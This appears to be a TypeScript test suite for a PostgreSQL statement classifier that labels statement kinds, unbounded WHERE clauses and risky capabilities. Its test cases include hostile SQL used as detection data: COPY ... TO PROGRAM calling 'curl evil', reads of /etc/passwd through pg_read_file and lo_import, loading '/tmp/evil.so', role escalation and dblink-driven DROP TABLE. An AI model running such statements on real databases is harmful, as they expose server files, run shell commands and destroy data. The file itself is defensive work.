import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import fc from 'fast-check';
import { SqlClassifier } from './sql-classifier.js';

let c: SqlClassifier;
before(async () => {
  c = await SqlClassifier.create();
});
const kinds = (sql: string) => c.classify(sql).map((s) => s.kind);

test('kinds come from the parser, one per statement', () => {
  assert.deepEqual(kinds('select 1; insert into t values (1); update t set a = 1 where b; delete from t'), [
    'SELECT',
    'INSERT',
    // A write's own target shows its rows through errors and counts: a nested read (sql-facts-exposed.ts).
    'UPDATE',
    'SELECT',
    'DELETE',
    'SELECT',
  ]);
  assert.deepEqual(
    kinds(
      'drop table t; truncate t; alter table t add b int; create index on t(a); grant select on t to x; revoke all on t from x',
    ),
    // ALTER TABLE and CREATE INDEX evaluate rows of their table, which a nested SELECT names.
    ['DROP', 'TRUNCATE', 'ALTER', 'SELECT', 'CREATE', 'SELECT', 'GRANT', 'REVOKE'],
  );
  assert.deepEqual(kinds('begin; commit; set x = 1; show x; explain select 1'), [
    'TRANSACTION',
    'TRANSACTION',
    'SET',
    'SHOW',
    'EXPLAIN',
  ]);
  assert.deepEqual(kinds(''), []);
  assert.deepEqual(kinds('selec t'), ['UNKNOWN']);
});

test('WHERE is seen on UPDATE and DELETE; strings that merely contain WHERE do not count', () => {
  assert.equal(c.classify('delete from t -- where a = 1')[0]!.hasWhere, false);
  assert.equal(c.classify("update t set note = 'where'")[0]!.hasWhere, false);
  assert.equal(c.classify('delete from t where a = 1')[0]!.hasWhere, true);
});

test('writes nested in CTEs and EXPLAIN ANALYZE are found', () => {
  const cte = c.classify('with d as (delete from t returning *) select * from d');
  assert.deepEqual(
    cte.map((s) => [s.kind, s.nested, s.hasWhere]),
    [
      ['SELECT', false, false],
      ['DELETE', true, false],
      // It returns the deleted rows: a read of t.
      ['SELECT', true, false],
    ],
  );
  assert.deepEqual(kinds('explain analyze update t set a = 1'), ['EXPLAIN', 'UPDATE', 'SELECT']);
});

test('read-only facts: COPY TO reads, COPY FROM writes, BEGIN READ WRITE writes, SELECT INTO creates', () => {
  assert.equal(c.classify('copy t to stdout')[0]!.writes, false);
  assert.equal(c.classify('copy t from stdin')[0]!.writes, true);
  assert.equal(c.classify('begin read write')[0]!.writes, true);
  assert.equal(c.classify('begin read only')[0]!.writes, false);
  // Finishing another session's prepared transaction commits or discards its writes.
  assert.equal(c.classify("commit prepared 'x'")[0]!.writes, true);
  assert.equal(c.classify("rollback prepared 'x'")[0]!.writes, true);
  assert.equal(c.classify("prepare transaction 'x'")[0]!.writes, false);
  assert.equal(c.classify('commit')[0]!.writes, false);
  // dblink's text runs in a session of its own.
  assert.equal(c.classify("select * from dblink('db', 'select 1') as r(x int)")[0]!.writes, true);
  // It creates x with the rows of t: a read of t too.
  assert.deepEqual(kinds('select * into x from t'), ['CREATE', 'SELECT']);
  assert.deepEqual(c.classify('select * from s.t join u using (id)')[0]!.tables, ['s.t', 'u']);
});

test('a SELECT of set_config() that could turn the read-only default off writes; one that keeps it on does not', () => {
  const writes = (sql: string) => c.classify(sql)[0]!.writes;
  assert.equal(writes("select set_config('default_transaction_read_only', 'off', false)"), true);
  assert.equal(writes("select set_config('transaction_read_only', 'false', true)"), true);
  assert.equal(
    writes("select * from pg_catalog.set_config('DEFAULT_TRANSACTION_READ_ONLY', '0', false)"),
    true,
  );
  assert.equal(writes("select set_config('default_transaction_read_only', $1, false)"), true);
  assert.equal(writes('select set_config($1, $2, false)'), true);
  assert.equal(writes("select set_config('default_transaction_read_only', 'on', false)"), false);
  assert.equal(writes("select set_config('default_transaction_read_only', ' TRUE ', false)"), false);
  assert.equal(writes("select set_config('work_mem', '8MB', false)"), false);
});

const first = (sql: string) => {
  const [s] = c.classify(sql);
  assert.ok(s, sql);
  return s;
};
const allFunctions = (sql: string) => c.classify(sql).flatMap((s) => s.functions);
const allFlags = (sql: string) => [...new Set(c.classify(sql).flatMap((s) => s.flags))].sort();

test('functions: lower-cased and unqualified, however spelled and wherever nested', () => {
  assert.deepEqual(first("select pg_catalog.pg_read_file('/etc/passwd')").functions, ['pg_read_file']);
  assert.deepEqual(first("select PG_READ_FILE('x')").functions, ['pg_read_file']);
  // Quoted, it is another function to the server; a look-alike is flagged all the same.
  assert.deepEqual(first(`select "PG_READ_FILE"('x')`).functions, ['pg_read_file']);
  assert.deepEqual(first(`select "pg_catalog"."pg_read_file"('x')`).functions, ['pg_read_file']);
  assert.deepEqual(
    first("with a as (select 1 from t where x in (select lo_export(1, '/tmp/x'))) select * from a").functions,
    ['lo_export'],
  );
  assert.deepEqual(first("create table t (a text default pg_read_file('x'))").functions, ['pg_read_file']);
  assert.deepEqual(first("select * from rows from (pg_ls_dir('.'))").functions, ['pg_ls_dir']);
  assert.deepEqual(first("insert into t values ((select pg_stat_file('x')))").functions, ['pg_stat_file']);
  assert.deepEqual(first('call myschema.do_things(1)').functions, ['do_things']);
  assert.ok(first('select count(*), lower(x) from t').functions.includes('count'));
});

test('functions bound to run later count: triggers, casts, operators, aggregates', () => {
  assert.deepEqual(
    first('create trigger tr before insert on t for each row execute function pg_read_file()').functions,
    ['pg_read_file'],
  );
  assert.deepEqual(first('create cast (int as text) with function pg_read_file(int)').functions, [
    'pg_read_file',
  ]);
  assert.deepEqual(
    first('create operator ### (rightarg = text, function = pg_catalog.pg_read_file)').functions,
    ['pg_read_file'],
  );
  assert.deepEqual(first('create aggregate a(int) (sfunc = pg_read_file, stype = text)').functions, [
    'pg_read_file',
  ]);
  // EXPLAIN (ANALYZE) is an option, not a function.
  assert.deepEqual(first('explain (analyze) select 1').functions, []);
});

test('flags name what a statement can do beyond its kind', () => {
  const cases: [string, string[]][] = [
    ['do $$begin perform 1; end$$', ['do_block']],
    ["create function f() returns int language plpgsql as 'begin return 1; end'", ['procedural_function']],
    ["create or replace procedure p() language c as '/tmp/x.so', 'p'", ['procedural_function']],
    ["create function f() returns int as 'select 1'", ['procedural_function']], // no language: opaque
    ["create function f() returns int language sql as 'select 1'", []],
    ['create function f() returns int return 1', []],
    ['call p()', ['call']],
    ["copy t to program 'curl evil'", ['copy_program']],
    ["copy t from program 'cat /etc/passwd'", ['copy_program']],
    ["copy t from '/etc/passwd'", ['copy_server_file']],
    ["copy (select 1) to '/tmp/x'", ['copy_server_file']],
    ['copy t from stdin', []],
    ["alter system set shared_preload_libraries = 'x'", ['alter_system']],
    ['set role postgres', ['set_role']],
    ['set local role postgres', ['set_role']],
    ["select set_config('ROLE', 'postgres', false)", ['set_role']],
    ["select set_config('role', $1, false)", ['set_role']],
    ["alter role me set role = 'postgres'", ['set_role']],
    ['reset role', []],
    ['set role none', []],
    ['set session authorization postgres', ['set_session_authorization']],
    ['reset session authorization', []],
    ['set session authorization default', []],
    ['select set_config($1, $2, false)', ['dynamic_setting']],
    ["select pg_catalog.pg_read_file('/etc/passwd')", ['server_file_access']],
    ["select pg_read_binary_file('x')", ['server_file_access']],
    ["select * from pg_ls_dir('.')", ['server_file_access']],
    ["select lo_import('/etc/passwd')", ['server_file_access']],
    ["select lo_export(1, '/tmp/x')", ['server_file_access']],
    ['select lo_get(1)', ['large_object']],
    ['select pg_terminate_backend(1)', ['terminate_backend']],
    ['select pg_cancel_backend(1)', ['terminate_backend']],
    ["select * from dblink('host=x', 'select 1') as t(a int)", ['dblink']],
    ["select dblink_exec('drop table t')", ['dblink']],
    ['create extension dblink', ['create_extension']],
    ['create language plperlu', ['create_extension']],
    ['create server s foreign data wrapper postgres_fdw', ['foreign_data']],
    ["load '/tmp/evil.so'", ['load_library']],
    ["select * from t where a = 1 and b like 'pg_read_file%'", []],
    ['select pg_sleep(0)', []],
  ];
  for (const [sql, flags] of cases) assert.deepEqual(allFlags(sql), flags.sort(), sql);
});

test('sql function bodies are classified as nested statements; an unreadable one is UNKNOWN', () => {
  const cls = c.classify(
    "create function f() returns void language sql as 'delete from t; select pg_read_file(''x'')'",
  );
  assert.deepEqual(
    cls.map((s) => [s.kind, s.nested, s.hasWhere]),
    [
      ['CREATE', false, false],
      ['DELETE', true, false],
      ['SELECT', true, false],
      ['SELECT', true, false],
    ],
  );
  assert.deepEqual(cls[3]?.flags, ['server_file_access']);
  assert.deepEqual(
    c
      .classify('create procedure p() begin atomic delete from t where true; end')
      .map((s) => [s.kind, s.hasWhere]),
    [
      ['CREATE', false],
      ['DELETE', false],
      ['SELECT', false],
    ],
  );
  assert.deepEqual(
    c.classify("create function f() returns int language sql as 'selec t'").map((s) => [s.kind, s.nested]),
    [
      ['CREATE', false],
      ['UNKNOWN', true],
      // What it reads is not known either: every table.
      ['SELECT', true],
    ],
  );
  assert.deepEqual(
    allFunctions("create function f() returns int language sql as 'select lo_import(''/x'')'"),
    ['lo_import'],
  );
});

test('hasWhere needs a column: constant conditions are unbounded', () => {
  const unbounded = [
    'delete from t where true',
    'delete from t where 1=1',
    "delete from t where 'a'='a'",
    'delete from t where not false',
    'delete from t where (true)',
    'update t set a = 1 where 1 < 2 and 2 > 1',
    'update t set a = 1 where $1',
    'delete from t where exists (select 1)',
    'delete from t where null is null',
    "delete from t where 'x' is not null",
  ];
  for (const sql of unbounded) assert.equal(first(sql).hasWhere, false, sql);
  const bounded = [
    'delete from t where id = 1',
    'delete from t where t.id = $1',
    'delete from t where not archived',
    'update t set a = 1 where id in (select id from u)',
    'delete from t where exists (select 1 from u where u.tid = t.id)',
    'delete from t where current of c',
  ];
  for (const sql of bounded) assert.equal(first(sql).hasWhere, true, sql);
  // The nested entry is judged by the same rule.
  assert.equal(
    c.classify('with d as (delete from t where 1=1 returning *) select * from d')[1]?.hasWhere,
    false,
  );
});

test('an unparseable statement carries empty facts of its own (not a shared array)', () => {
  const [u] = c.classify('selec t');
  assert.deepEqual([u?.kind, u?.functions, u?.settings, u?.flags], ['UNKNOWN', [], [], []]);
  u?.flags.push('do_block');
  assert.deepEqual(c.classify('selec t also')[0]?.flags, []);
});

// --- property tests ---

/** A boolean expression over constants, and whether a column appears in it. */
type Expr = { sql: string; column: boolean };
const constantTerm = fc.constantFrom("'a'", '1', '2.5', 'null', '$1', "'x'::text", 'true');
const columnTerm = fc.constantFrom('id', 't.id', '"Id"', 'archived', 'u.x');
const term: fc.Arbitrary<Expr> = fc.oneof(
  constantTerm.map((sql) => ({ sql, column: false })),
  columnTerm.map((sql) => ({ sql, column: true })),
);
const { expr } = fc.letrec<{ expr: Expr; atom: Expr }>((tie) => ({
  atom: fc.oneof(
    fc.constantFrom('true', 'false', 'not false', '1=1').map((sql) => ({ sql, column: false })),
    fc
      .tuple(term, fc.constantFrom('=', '<>', '<', '>=', 'is not distinct from'), term)
      .map(([a, op, b]) => ({ sql: `${a.sql} ${op} ${b.sql}`, column: a.column || b.column })),
    term.map((t) => ({ sql: `${t.sql} is null`, column: t.column })),
  ),
  expr: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    tie('atom'),
    tie('expr').map((e) => ({ sql: `not (${e.sql})`, column: e.column })),
    fc
      .tuple(tie('expr'), fc.constantFrom('and', 'or', 'AND', 'Or'), tie('expr'))
      .map(([a, op, b]) => ({ sql: `(${a.sql}) ${op} (${b.sql})`, column: a.column || b.column })),
    tie('expr').map((e) => ({ sql: `exists (select 1 where ${e.sql})`, column: e.column })),
  ),
}));

test('property: hasWhere holds exactly when the WHERE clause refers to a column', () => {
  fc.assert(
    fc.property(
      expr,
      fc.constantFrom(
        'delete from t where %',
        'update t set a = 1 where %',
        'with d as (delete from t where % returning 1) select 1',
      ),
      (e, shape) => {
        const entries = c.classify(shape.replace('%', () => e.sql));
        const write = entries.find((s) => s.kind === 'DELETE' || s.kind === 'UPDATE');
        return write !== undefined && write.hasWhere === e.column;
      },
    ),
    { numRuns: 500 },
  );
});

test('a SELECT of a function that writes where a read-only transaction does not stop it is a write', () => {
  const writes = (sql: string) => c.classify(sql).some((s) => s.writes);
  for (const sql of [
    'select lo_unlink(1)',
    "select pg_catalog.lo_put(1, 0, 'x')",
    "select * from (select lo_from_bytea(0, 'x')) s",
    "select pg_replication_origin_create('o')",
    "select pg_create_physical_replication_slot('s')",
    "select pg_import_system_collations('pg_catalog')",
    'select pg_terminate_backend(1)',
  ])
    assert.equal(writes(sql), true, sql);
  for (const sql of ['select lo_get(1)', "select nextval('s')", 'select pg_advisory_lock(1)'])
    assert.equal(writes(sql), false, sql);
});

test('SELECT pg_notify() is followed by the NOTIFY it is', () => {
  assert.deepEqual(kinds("select pg_notify('c', 'x')"), ['SELECT', 'NOTIFY']);
  assert.deepEqual(
    c
      .classify("select 1 from (select pg_catalog.pg_notify('c', 'x')) s")
      .map((s) => [s.kind, s.nested, s.writes]),
    [
      ['SELECT', false, true],
      ['NOTIFY', true, true],
    ],
  );
});

test('the text a dblink call sends is judged as the statements it holds', () => {
  const nested = (sql: string) =>
    c
      .classify(sql)
      .filter((s) => s.nested)
      .map((s) => s.kind);
  assert.deepEqual(nested("select dblink_exec('dbname=x', 'drop table t')"), ['DROP']);
  assert.deepEqual(nested("select dblink_exec('truncate t', false)"), ['TRUNCATE']);
  assert.deepEqual(nested("select * from dblink('c', 'delete from t returning id', true) as r(id int)"), [
    'DELETE',
    'SELECT',
  ]);
  assert.deepEqual(nested("select dblink_open('c', 'cur', 'select * from payroll')"), ['SELECT']);
  // Computed: the text may be anything, and read any table. With a computed last argument (the
  // boolean, or the text), each constant argument is read as the text it may be.
  assert.deepEqual(nested("select dblink_exec('c', lower('DROP TABLE t'))"), [
    'UNKNOWN',
    'SELECT',
    'UNKNOWN',
    'SELECT',
  ]);
  assert.deepEqual(nested("select dblink_exec('c', 'drop table t', $1)"), [
    'UNKNOWN',
    'SELECT',
    'UNKNOWN',
    'SELECT',
    'DROP',
  ]);
  assert.deepEqual(nested("select dblink_connect('c', 'dbname=x')"), []);
});

test('a table created under EXPLAIN ANALYZE is a nested CREATE, with the rows it copies read', () => {
  for (const sql of [
    'explain analyze create table x as select * from payroll',
    'explain (analyze) select * into x from payroll',
    'explain analyze create materialized view x as select * from payroll',
  ]) {
    const entries = c.classify(sql).map((s) => [s.kind, s.nested, s.writes]);
    assert.deepEqual(
      entries,
      [
        ['EXPLAIN', false, false],
        ['CREATE', true, true],
        ['SELECT', true, false],
      ],
      sql,
    );
  }
  // EXPLAIN ANALYZE runs its query: what it reports comes from the rows, so it reads them.
  assert.deepEqual(kinds('explain analyze select * from payroll'), ['EXPLAIN', 'SELECT']);
  // A plain EXPLAIN reads the planner's statistics of its tables, whose estimates tell of the rows.
  assert.deepEqual(kinds('explain select * from payroll'), ['EXPLAIN', 'SELECT']);
});

test('reads and statements kept inside another are nested entries: rules, inline sql bodies, schema elements', () => {
  const entries = (sql: string) => c.classify(sql).map((s) => [s.kind, s.nested, s.tables]);
  assert.deepEqual(entries('create rule r as on insert to log do instead select * from payroll'), [
    ['CREATE', false, ['log', 'payroll']],
    ['SELECT', true, ['payroll']],
  ]);
  assert.deepEqual(entries('create rule r as on insert to log do also notify ch'), [
    ['CREATE', false, ['log']],
    ['NOTIFY', true, []],
  ]);
  for (const body of ['begin atomic select salary from payroll; end', 'return (select salary from payroll)'])
    assert.deepEqual(entries(`create function f() returns text language sql ${body}`), [
      ['CREATE', false, ['payroll']],
      ['SELECT', true, ['payroll']],
    ]);
  assert.deepEqual(entries('create function f(a int) returns int language sql return a + 1'), [
    ['CREATE', false, []],
  ]);
  assert.deepEqual(entries('create schema s grant select on public.payroll to r'), [
    ['CREATE', false, ['public.payroll']],
    ['GRANT', true, ['public.payroll']],
  ]);
  assert.deepEqual(kinds('create schema s create view v as select * from payroll'), [
    'CREATE',
    'CREATE',
    'SELECT',
  ]);
  assert.deepEqual(kinds('alter default privileges grant select on tables to r'), ['ALTER', 'GRANT']);
});
